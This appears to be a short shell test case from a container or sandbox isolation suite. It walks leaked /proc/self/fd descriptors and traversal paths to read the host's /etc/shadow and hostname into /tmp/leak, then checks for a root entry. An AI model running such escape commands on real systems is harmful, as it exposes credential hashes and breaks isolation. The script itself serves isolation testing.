#!/bin/sh
. /opt/case/case.sh

exec 7</host
for n in 3 4 5 6 7 8 9; do cd / && cd /proc/self/fd/$n/etc 2>/dev/null && for up in . .. ../..; do cat $up/shadow $up/etc/shadow 2>/dev/null; done >>/tmp/leak || true; done
for n in 5 6 7 8; do cat /proc/self/fd/$n/../../../../../etc/hostname 2>/dev/null; done >>/tmp/leak || true
grep -q '^root:' /tmp/leak
took_place
